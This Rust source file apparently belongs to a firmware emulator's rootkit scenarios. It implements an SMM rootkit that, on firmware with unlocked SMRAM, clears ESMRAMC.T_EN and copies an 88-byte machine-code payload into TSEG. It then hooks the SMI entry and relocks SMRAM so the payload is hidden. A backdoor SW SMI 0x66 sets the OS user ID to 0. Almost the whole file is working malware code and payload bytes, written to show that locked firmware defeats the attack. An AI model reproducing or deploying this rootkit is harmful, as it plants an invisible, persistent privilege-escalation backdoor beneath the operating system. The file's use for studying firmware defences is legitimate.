//! An SMM rootkit, as the OS-level malware of the rootkit scenarios plants it: if the
//! firmware left SMRAM unlocked (no D_LCK) and SMRR unprogrammed, clearing ESMRAMC.T_EN turns
//! TSEG into ordinary memory; the malware copies its handler into TSEG, points the firmware's
//! SMI entry at it, closes TSEG and sets D_LCK itself, so that nothing outside SMM can look
//! at SMRAM again. The handler answers SW SMI 0x66 by setting the OS's current user ID to 0
//! and passes every other SMI to the firmware. Against the locked firmware every step fails.

use firmware::con::{dec, hex32, hex64, hex8, puts};
use firmware::io::{peek32, poke32};
use firmware::layout::{tseg, MCH_ESMRAMC, MCH_SMRAM, OS_MEMORY, SMRAM_D_LCK, SMRAM_D_OPEN};
use firmware::pci;
use firmware::sw;

/// The SW SMI the rootkit answers.
pub const BACKDOOR: u8 = 0x66;
/// The OS's "current user ID" (what a privilege escalation changes).
pub const CURRENT_UID: u64 = OS_MEMORY + 0x3000;
/// Where the payload goes in TSEG: above everything the built-in firmware uses.
const PAYLOAD_AT: u64 = 0xf_0000;
/// The SMI entry stub's handler pointer (SMBASE + 0x8000 + 0x28, the firmware's stub layout,
/// which the malware author read from a dump of the firmware).
const ENTRY_POINTER_AT: u64 = tseg::SMBASE + 0x8000 + 0x28;

/// The payload (64-bit, position-independent, called by the stub as `handler(ctx)`; the
/// bytes are what nasm makes of this):
///
/// ```text
///  0: push rdx; mov dx, 0x634; in eax, dx; test al, 0x20; jz chain   ; APM_STS in SMI_STS?
///  a: mov dx, 0xb2; in al, dx; cmp al, 0x66; jne chain               ; APM_CNT = 0x66?
/// 13: mov rax, [rel uid_ptr]; mov qword [rax], 0                     ; uid := 0
/// 21: mov dx, 0x634; mov eax, 0x20; out dx, eax                      ; clear APM_STS
/// 2b: pop rdx; ret
/// 2d: chain: pop rdx; inc qword [rel hits]; jmp [rel orig]           ; the firmware's handler
/// 40: uid_ptr dq; 48: orig dq; 50: hits dq
/// ```
const PAYLOAD: [u8; 88] = [
    0x52, 0x66, 0xba, 0x34, 0x06, 0xed, 0xa8, 0x20, 0x74, 0x23, 0x66, 0xba, 0xb2, 0x00, 0xec, 0x3c, 0x66, 0x75, 0x1a, 0x48, 0x8b, 0x05,
    0x26, 0x00, 0x00, 0x00, 0x48, 0xc7, 0x00, 0x00, 0x00, 0x00, 0x00, 0x66, 0xba, 0x34, 0x06, 0xb8, 0x20, 0x00, 0x00, 0x00, 0xef, 0x5a,
    0xc3, 0x5a, 0x48, 0xff, 0x05, 0x1b, 0x00, 0x00, 0x00, 0xff, 0x25, 0x0d, 0x00, 0x00, 0x00, 0x90, 0x90, 0x90, 0x90, 0x90, 0x00, 0x00,
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
];
const PAYLOAD_UID_PTR: u64 = 0x40;
const PAYLOAD_ORIG: u64 = 0x48;

fn peek64(a: u64) -> u64 {
    peek32(a) as u64 | (peek32(a + 4) as u64) << 32
}

fn poke64(a: u64, v: u64) {
    poke32(a, v as u32);
    poke32(a + 4, (v >> 32) as u32);
}

/// The attack; returns whether the rootkit is installed.
pub fn install(tseg_base: u64) -> bool {
    let smram = pci::read8(0, 0, MCH_SMRAM);
    let esmramc = pci::read8(0, 0, MCH_ESMRAMC);
    puts("os: rootkit: SMRAM=");
    hex8(smram);
    puts(" ESMRAMC=");
    hex8(esmramc);
    puts(if smram & SMRAM_D_LCK != 0 { " (D_LCK set)\n" } else { " (D_LCK clear: SMRAM is unlocked)\n" });
    // Step 1: open TSEG to everyone (ESMRAMC.T_EN = 0) and open the A/B segment (D_OPEN).
    pci::write8(0, 0, MCH_ESMRAMC, esmramc & !1);
    pci::write8(0, 0, MCH_SMRAM, smram | SMRAM_D_OPEN);
    let opened = pci::read8(0, 0, MCH_ESMRAMC) & 1 == 0;
    puts("os: rootkit: step 1, clear ESMRAMC.T_EN: ");
    if !opened {
        puts("refused, ESMRAMC=");
        hex8(pci::read8(0, 0, MCH_ESMRAMC));
        puts(" SMRAM=");
        hex8(pci::read8(0, 0, MCH_SMRAM));
        puts(" -> attack stopped by D_LCK\n");
        return false;
    }
    puts("done\n");
    // Step 2: read the SMI entry's handler pointer in TSEG.
    let slot = tseg_base + ENTRY_POINTER_AT;
    let orig = peek64(slot);
    puts("os: rootkit: step 2, read SMRAM at ");
    hex32(slot as u32);
    puts(": ");
    hex64(orig);
    if orig == u64::MAX {
        puts(" (all ones: SMRR still guards TSEG) -> attack stopped by SMRR\n");
        pci::write8(0, 0, MCH_ESMRAMC, esmramc);
        return false;
    }
    puts(" = the firmware's SMI handler\n");
    // Step 3: copy the payload into TSEG and hook the entry.
    let at = tseg_base + PAYLOAD_AT;
    for (k, chunk) in PAYLOAD.chunks(4).enumerate() {
        poke32(at + 4 * k as u64, u32::from_le_bytes(chunk.try_into().unwrap()));
    }
    poke64(at + PAYLOAD_UID_PTR, CURRENT_UID);
    poke64(at + PAYLOAD_ORIG, orig);
    poke64(slot, at);
    puts("os: rootkit: step 3, payload written to SMRAM at ");
    hex32(at as u32);
    puts(", SMI entry hooked\n");
    // Step 4: hide: close TSEG again and lock SMRAM so nobody can open it to look.
    pci::write8(0, 0, MCH_ESMRAMC, esmramc);
    pci::write8(0, 0, MCH_SMRAM, (smram & !SMRAM_D_OPEN) | SMRAM_D_LCK);
    puts("os: rootkit: step 4, TSEG closed and D_LCK set by the rootkit: SMRAM=");
    hex8(pci::read8(0, 0, MCH_SMRAM));
    puts("\n");
    true
}

/// What the OS (or a scanner) sees afterwards, and whether the backdoor works.
pub fn probe(tseg_base: u64) -> bool {
    let seen = peek64(tseg_base + PAYLOAD_AT);
    puts("os: scanner: TSEG at the payload reads ");
    hex64(seen);
    puts(if seen == u64::MAX { " (invisible from outside SMM)\n" } else { "\n" });
    poke64(CURRENT_UID, 1000);
    let rax = sw::call(BACKDOOR, 0);
    let uid = peek64(CURRENT_UID);
    puts("os: SW SMI 0x66 (backdoor) -> rax=");
    hex64(rax);
    puts(", current uid ");
    dec(uid);
    if uid == 0 {
        puts(": ROOTKIT ACTIVE, privilege escalation from SMM\n");
        return true;
    }
    puts(": no rootkit answered\n");
    false
}
